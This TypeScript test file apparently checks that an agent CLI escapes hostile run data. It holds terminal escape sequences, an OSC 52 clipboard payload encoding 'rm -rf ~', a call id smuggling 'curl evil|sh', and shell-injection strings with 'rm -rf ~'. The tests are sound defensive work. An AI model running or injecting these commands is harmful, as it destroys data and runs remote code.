// What the CLI's formatters make of hostile run data: each piece stays on its one line with its control characters
// shown, the approval line names the exact command and says when it was escaped, the suggested commands quote a
// model-chosen call id, and the writers let through the CLI's own colours only.
import { describe, expect, it } from 'vitest';
import { formatHistory } from '../../src/cli/commands/history.js';
import { formatRows } from '../../src/cli/commands/list.js';
import { formatApproval } from '../../src/cli/follow.js';
import type { RunHistory } from '../../src/history/history-reader.js';
import { formatProgress, shellWord, terminalSafe } from '../../src/cli/output.js';
import type { PendingApproval } from '../../src/protocol/approval.js';

const ESC = '\u001b';

/** Whether `text` holds anything a terminal acts on or hides, newlines apart. */
function holdsRaw(text: string): boolean {
  return Array.from(text).some((character) => character !== '\n' && /[\p{Cc}\p{Cf}]/u.test(character));
}
const HOSTILE = `ok${ESC}]52;c;cm0gLXJmIH4=\u0007${ESC}[2J\r\n\u009b\u202e`;
const SHOWN = 'ok\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\x0d\\x0a\\x9b\\u202e';

function approval(command: string, callId = 'call_1'): PendingApproval {
  return {
    callId,
    identity: `1:${callId}`,
    tool: 'Bash',
    level: 'destructive',
    reason: 'rm deletes or truncates files',
    command,
    requestedAt: 0,
  } as PendingApproval;
}

describe('formatProgress', () => {
  it('shows every field of a tool line on that one line', () => {
    const line = formatProgress({
      seq: 1,
      kind: 'tool',
      step: 1,
      tool: `Read${ESC}[8m`,
      text: HOSTILE,
      status: 'error',
      detail: HOSTILE,
      ms: 3,
    });
    expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(line).toContain(`Read\\x1b[8m ${SHOWN}  error 3ms ${SHOWN}`);
  });

  it('shows a model name of a step line', () => {
    expect(formatProgress({ seq: 2, kind: 'step', step: 1, text: `gpt${ESC}]0;title\u0007: answer` })).toBe(
      'step 1  gpt\\x1b]0;title\\x07: answer  ',
    );
  });
});

describe('formatApproval', () => {
  it('shows the exact command escaped, with a note, and quotes the call id of the suggested commands', () => {
    const text = formatApproval('agent-x', approval(`rm -rf ~\r${ESC}[2Kls`, 'a; curl evil|sh'));
    const lines = text.split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[0]).toBe(
      'approval needed a; curl evil|sh  Bash rm -rf ~\\x0d\\x1b[2Kls  (destructive: rm deletes or truncates files)',
    );
    expect(lines[1]).toMatch(/^ {2}note: the command is shown with escapes/);
    expect(lines[2]).toContain("durable-agent approve agent-x 'a; curl evil|sh'");
    expect(lines[2]).toContain("durable-agent deny agent-x 'a; curl evil|sh'");
  });

  it('adds no note to a command shown as it is', () => {
    const text = formatApproval('agent-x', approval('rm -rf build'));
    expect(text.split('\n')).toHaveLength(2);
    expect(text).toContain('Bash rm -rf build  (destructive');
  });

  it('notes a doubled backslash too: what is shown must read back to what runs', () => {
    expect(formatApproval('agent-x', approval("printf '\\x41'"))).toMatch(/printf '\\\\x41'.*\n {2}note:/);
  });
});

describe('shellWord', () => {
  it('leaves a plain id alone and quotes anything a shell would read apart', () => {
    expect(shellWord('call_abc-1#2')).toBe('call_abc-1#2');
    expect(shellWord("x'; rm -rf ~; '")).toBe(`'x'\\''; rm -rf ~; '\\'''`);
    expect(shellWord(`a${ESC}b`)).toBe("'a\\x1bb'");
  });
});

describe('formatHistory and formatRows', () => {
  it('keep each hostile piece on its line', () => {
    const run: RunHistory = {
      workflowId: 'agent-x',
      runId: 'r1',
      status: 'failed',
      terminationReason: HOSTILE,
      waitingFor: [HOSTILE],
      steps: [
        {
          step: 1,
          model: {
            model: HOSTILE,
            promptTokens: 1,
            completionTokens: 1,
            durationMs: 5,
            attempts: 2,
            failures: [HOSTILE],
          },
          tools: [
            {
              callId: HOSTILE,
              tool: `Bash${ESC}[2J`,
              summary: `Bash ${HOSTILE}`,
              status: 'error',
              errorCode: HOSTILE,
              durationMs: 1,
              attempts: 1,
              classification: { level: 'destructive', rule: HOSTILE },
            },
          ],
        },
      ],
      runIds: ['r1'],
    };
    const history = formatHistory(run);
    expect(holdsRaw(history)).toBe(false);
    // A header, the wait, the step, its failure, the tool call: a newline in the data adds no line.
    expect(history.trimEnd().split('\n')).toHaveLength(5);
    expect(history).toContain('Bash\\x1b[2J');

    const rows = formatRows(
      [
        {
          workflowId: `agent-${ESC}[2J`,
          runId: 'r1',
          status: 'running',
          step: 1,
          costUsd: null,
          pendingApprovals: null,
          startTime: new Date(0).toISOString(),
          closeTime: null,
          task: `${HOSTILE}\nsecond line`,
          parentWorkflowId: null,
        },
      ],
      1000,
    );
    expect(holdsRaw(rows)).toBe(false);
    expect(rows).toContain('agent-\\x1b[2J');
    expect(rows).not.toContain('second line');
  });
});

describe('terminalSafe', () => {
  it("lets the CLI's own colours through on a colour stream and shows every other escape", () => {
    const own = `${ESC}[1mstep 1${ESC}[0m ${ESC}[31mfailed${ESC}[0m`;
    expect(terminalSafe(own, true)).toBe(own);
    expect(terminalSafe(`${own} ${ESC}[8mhidden ${ESC}]52;c;eA==\u0007`, true)).toBe(
      `${own} \\x1b[8mhidden \\x1b]52;c;eA==\\x07`,
    );
    expect(terminalSafe(own, false)).toBe('\\x1b[1mstep 1\\x1b[0m \\x1b[31mfailed\\x1b[0m');
  });

  it('keeps lines and tabs and leaves escapes already made as they are', () => {
    expect(terminalSafe('a\n\tb \\x1b\r', false)).toBe('a\n\tb \\x1b\\x0d');
  });
});
